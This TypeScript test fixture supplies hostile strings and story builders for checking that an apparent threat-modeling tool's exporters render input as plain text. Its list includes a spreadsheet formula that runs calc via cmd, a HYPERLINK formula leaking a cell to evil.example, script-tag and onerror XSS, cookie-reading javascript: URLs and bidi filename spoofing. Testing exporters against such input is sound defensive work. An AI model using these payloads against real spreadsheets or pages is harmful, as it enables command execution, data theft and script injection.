/**
 * Stories made of hostile text, for the export tests (and for trying an export by hand): every
 * exporter must carry these strings as text, never as a formula, markup or link. Plain data and
 * builders, no test framework, so any test (shared or CLI) can use them.
 */
import type { Story } from '../stories/generateStories';

/**
 * Strings an attacker, a careless paste or an odd language could put into a name, a title or a
 * rule pack: spreadsheet formulas (ASCII, fullwidth, small forms, after whitespace or invisible
 * characters), CSV syntax, Jira wiki and ADF-looking markup, HTML, URL schemes, Unicode (emoji,
 * RTL, bidi controls, lone surrogates), controls and a 10,000-character string.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttab first',
  '\rCR first',
  '\nLF first',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff@SUM(1)',
  '\u202e=1+1',
  'say "hi" and ""quoted""',
  '"',
  'a,b,c',
  ',',
  'line one\nline two',
  'line one\r\nline two\r\n',
  'para\n\n= not a formula here',
  'emoji 🛡️ 👩🏽‍💻 🔐',
  'RTL \u202eevil.exe\u202c עברית مرحبا \u200f',
  '',
  ' ',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.cookie)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[click|javascript:alert(1)]',
  '[x](javascript:alert(1))',
  '{noformat}',
  'a{noformat}b{noformat}c',
  '{NoFormat}',
  '{code}x{code}',
  '{color:red}red{color}',
  '*bold* _italic_ -strike- +under+ ^sup^ ~sub~ ??cite?? {{mono}}',
  'h1. Heading',
  'bq. quote',
  '----',
  '|| a || b ||',
  '!image.png!',
  '[~admin]',
  '(y) (!) :) #1 50% @here',
  '\\',
  'C:\\Users\\x',
  'a\\*b\\',
  '\\\\server\\share',
  '\u0000nul\u0007bell\u001bescape\u007fdel\u0085nel',
  'lone \ud800 surrogate \udc00',
  'x'.repeat(10_000),
];

const BASE: Story = {
  id: 'S-0123456789abcdef',
  featureId: 'checkout',
  featureName: 'Checkout',
  mitigationId: 'M-TEST',
  title: 'Encrypt traffic (Checkout)',
  userStory: 'As a developer, I want TLS, so that traffic is private.',
  description: 'Use TLS 1.2 or later.',
  state: 'planned',
  accepted: true,
  threatIds: ['T-0000000000000001', 'T-0000000000000002'],
  coveredThreatIds: ['T-0000000000000001', 'T-0000000000000002'],
  needsReview: false,
  severity: 'high',
  acceptanceCriteria: [
    {
      targetId: 'f1',
      targetName: 'Browser to API',
      text: '"Browser to API" uses TLS 1.2 or later',
      asvs: 'v5.0.0-12.1.1',
    },
  ],
  asvs: ['v5.0.0-12.1.1'],
  affectedTargets: [{ id: 'f1', name: 'Browser to API' }],
  trackerKey: null,
  docPath: null,
  jiraIssueKey: null,
  notes: '',
};

/** A complete, well-formed story with `overrides` applied. */
export function storyFixture(overrides: Partial<Story> = {}): Story {
  // A deep copy, so a test that mutates its story cannot affect the next one.
  return { ...(JSON.parse(JSON.stringify(BASE)) as Story), ...overrides };
}

/** A story whose every free-text field (and feature name) is `text`. */
export function hostileStory(text: string, index: number): Story {
  const hex = index.toString(16).padStart(16, '0');
  return storyFixture({
    id: `S-${hex}`,
    featureName: text,
    title: text,
    userStory: text,
    description: text,
    acceptanceCriteria: [
      { targetId: 'f1', targetName: text, text, asvs: 'v5.0.0-12.1.1' },
      { targetId: 'api', targetName: text, text: `${text} (second)`, asvs: 'v5.0.0-6.2.1' },
    ],
    affectedTargets: [
      { id: 'api', name: text },
      { id: 'f1', name: text },
    ],
  });
}
